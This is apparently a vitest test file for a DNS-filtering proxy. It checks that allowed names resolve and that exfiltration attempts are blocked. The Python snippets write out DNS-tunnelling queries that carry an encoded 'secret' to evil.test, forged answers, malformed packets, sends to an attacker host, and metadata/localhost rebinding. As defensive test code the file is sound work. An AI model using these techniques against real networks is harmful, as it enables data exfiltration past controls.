import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadNative } from '../../src/kernel/load.ts';
import { serveDatagrams } from '../../src/proxy/dns/datagrams.ts';
import { asked, Lab, reached, WORLD } from '../e2e/lab.ts';

/** The DNS server behind real chains and kernel records, asked by what programs ask with: libc, Python, Node, bare sockets. */
let lab: Lab;
beforeAll(async () => {
  lab = await Lab.start();
});
afterAll(() => lab?.stop());

const python = (script: string): string[] => ['/usr/bin/python3', '-c', script];
const policy = 'ok.test\n*.ok.test\nalias.test\nmetadata.test\nlocal.test\nok.test:9999/udp';
const message = `
import os, socket, struct, sys
def query(name, kind=1, id=7): return struct.pack('>6H', id, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>2H', kind, 1)
def response(name, ip): return struct.pack('>6H', 7, 0x8180, 1, 1, 0, 0) + query(name)[12:] + b'\\xc0\\x0c' + struct.pack('>2HIH', 1, 1, 600, 4) + socket.inet_aton(ip)
def udp(family=socket.AF_INET): s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(3); return s
SERVER = ('${WORLD.dns}', 53)
`;

describe('programs resolve what is allowed', () => {
  it.each<[string, string[], RegExp]>([
    ['libc', ['getent', 'ahosts', 'ok.test'], new RegExp(`^${WORLD.ok}\\s+STREAM`)],
    ['libc, through an alias', ['getent', 'hosts', 'alias.test'], new RegExp(`^${WORLD.ok}\\s`)],
    ['Python', python("import socket; print(socket.getaddrinfo('OK.test', 443)[0][4])"), new RegExp(`'${WORLD.ok}', 443`)],
    ['Node', [process.execPath, '-e', "require('dns').lookup('ok.test', (e, a) => console.log(a))"], new RegExp(`^${WORLD.ok}$`)],
    [
      'Node, its own resolver',
      [process.execPath, '-e', "require('dns').resolve4('ok.test', (e, a) => console.log(a))"],
      new RegExp(WORLD.ok),
    ],
    [
      'a connected socket',
      python(`${message}s = udp(); s.connect(SERVER); s.send(query('ok.test')); print(socket.inet_ntoa(s.recv(512)[-4:]))`),
      new RegExp(WORLD.ok),
    ],
    [
      'an IPv6 socket, IPv4-mapped',
      python(
        `${message}s = udp(socket.AF_INET6); s.sendto(query('ok.test'), ('::ffff:${WORLD.dns}', 53)); print(socket.inet_ntoa(s.recv(512)[-4:]))`,
      ),
      new RegExp(WORLD.ok),
    ],
    [
      'many processes at once',
      ['bash', '-c', 'for i in $(seq 30); do getent hosts ok.test & done; wait'],
      new RegExp(`^(${WORLD.ok}\\s+ok.test(\\s+|$)){30}$`),
    ],
  ])('%s', async (_, argv, says) => {
    const result = await lab.run(argv, { policy });
    expect(result.stdout.trim()).toMatch(says);
    expect(result.log.filter(({ type }) => type === 'dns')[0]).toMatchObject({
      policy: 'allow',
      pid: expect.any(Number),
      exe: expect.any(String),
    });
  });

  it('and hear at once of what is denied', async () => {
    const start = performance.now();
    const result = await lab.run(['getent', 'ahosts', 'c2VjcmV0.evil.test'], { policy });
    expect(result.status).toBe(2);
    expect(performance.now() - start).toBeLessThan(15_000);
    expect(asked(result)).toEqual([]);
    expect(result.log).toContainEqual(
      expect.objectContaining({ type: 'dns', policy: 'deny', name: 'c2vjcmv0.evil.test', query_type: 'A', exe: '/usr/bin/getent' }),
    );
  });
});

describe('ways out by DNS', () => {
  it('an allowed name that answers with this machine or the metadata service has no address', async () => {
    const result = await lab.run(['bash', '-c', 'getent hosts metadata.test; getent hosts local.test; echo none'], { policy });
    expect(result.stdout).toBe('none\n');
    expect(asked(result).sort()).toEqual(['local.test', 'metadata.test']);
  });

  it('junk first, then queries on the same socket', async () => {
    const script = `${message}
s = udp()
s.sendto(b'junk', SERVER)
s.sendto(query('c2VjcmV0.evil.test'), SERVER)
print(s.recv(512)[3] & 15)
`;
    const result = await lab.run(python(script), { policy });
    expect(result.stdout.trim()).toBe('3');
    expect(result.seen).toEqual([]);
    expect(result.packets.filter(({ proto }) => proto === 17)).toEqual([]);
    expect(result.log.filter(({ type, policy: verdict }) => type === 'dns' && verdict === 'deny')).toHaveLength(2);
  });

  it('several questions, odd classes, trailing bytes, pointers: answered with an error, sent to nobody', async () => {
    const script = `${message}
evil = query('c2VjcmV0.evil.test')
two = struct.pack('>6H', 7, 0x100, 2, 0, 0, 0) + query('ok.test')[12:] + evil[12:]
chaos = query('ok.test')[:-1] + b'\\3'
trailing = query('ok.test') + b'secret'
answer = struct.pack('>6H', 7, 0x100, 1, 1, 0, 0) + response('ok.test', '1.2.3.4')[12:]
pointer = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + b'\\xc0\\x0c' + struct.pack('>2H', 1, 1)
for bytes in (two, chaos, trailing, answer, pointer, query('ok.test', 255), query('ok.test', 252)):
    s = udp(); s.sendto(bytes, SERVER); print(s.recv(512)[3] & 15, end=' ')
`;
    const result = await lab.run(python(script), { policy });
    expect(result.stdout.trim()).toBe('1 5 1 1 1 5 5');
    expect(asked(result)).toEqual([]);
    expect(result.log.filter(({ type, policy: verdict }) => type === 'dns' && verdict === 'deny')).toHaveLength(7);
  });

  it('an answer forged by the job teaches nothing', async () => {
    const script = `${message}
s = udp()
s.sendto(response('ok.test', '${WORLD.evil}'), SERVER)
t = udp(); t.connect(('${WORLD.evil}', 9999)); t.send(b'secret')
try: print(t.recv(99))
except OSError as e: print('refused')
`;
    const result = await lab.run(python(script), { policy });
    expect(result.stdout.trim()).toBe('refused');
    expect(reached(result, WORLD.evil)).toEqual([]);
  });

  it('one source port for the resolver and for a server of the attacker', async () => {
    const script = `${message}
s = udp(); s.bind(('0.0.0.0', 5353))
for i in range(5):
    s.sendto(query('ok.test'), SERVER)
    s.sendto(query('ok.test'), ('${WORLD.evil}', 53))
    s.sendto(query('c2VjcmV0.evil.test'), ('${WORLD.evil}', 53))
for i in range(15): s.recv(512)
`;
    const result = await lab.run(python(script), { policy });
    expect(result.stderr).not.toContain('Traceback');
    expect(reached(result, WORLD.evil)).toEqual([]);
    expect(asked(result).filter((name) => name.includes('evil'))).toEqual([]);
  });

  it('ports that look like DNS', async () => {
    const script = `${message}
for port in (5353, 853, 5355):
    s = udp(); s.sendto(query('c2VjcmV0.evil.test'), ('${WORLD.evil}', port))
`;
    const result = await lab.run(python(script), { policy });
    expect(reached(result, WORLD.evil)).toEqual([]);
    expect(result.log.filter(({ type, policy: verdict }) => type === 'udp' && verdict === 'deny').map(({ dst_port }) => dst_port)).toEqual([
      5353, 853, 5355,
    ]);
  });

  it('in audit, what would be denied is asked where the client asked', async () => {
    const result = await lab.run(['dig', '+short', '+time=3', '+tries=1', `@${WORLD.evil}`, 'evil.test'], { policy, args: ['--audit'] });
    expect(result.stdout).toBe(`${WORLD.evil}\n`);
    expect(result.log).toContainEqual(
      expect.objectContaining({ type: 'dns', policy: 'deny', audit: true, dst_ip: WORLD.evil, name: 'evil.test' }),
    );
    expect(result.seen.filter(({ kind }) => kind === 'dns').map(({ address }) => address)).toEqual([WORLD.evil]);
  });
});

it('a datagram from port 0, where nobody can be answered, is passed over, and disturbs no other', async () => {
  const native = loadNative();
  const heard: string[] = [];
  const server = serveDatagrams(native, native.bindSocket('udp', 0x7f000001, 0), (bytes) => {
    heard.push(bytes.toString());
    return Buffer.from(bytes);
  });
  try {
    const script = `${message}
to = ('127.0.0.1', ${server.port})
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
s = udp(); s.sendto(b'before', to); print(s.recv(9))
raw.sendto(struct.pack('>4H', 0, to[1], 8 + 7, 0) + b'nowhere', to)
s.sendto(b'behind', to); print(s.recv(9))
`;
    const [file = '', ...args] = python(script);
    const { stdout } = await promisify(execFile)(file, args);
    expect(stdout).toBe("b'before'\nb'behind'\n");
    expect(heard).toEqual(['before', 'behind']);
  } finally {
    server.close();
  }
});
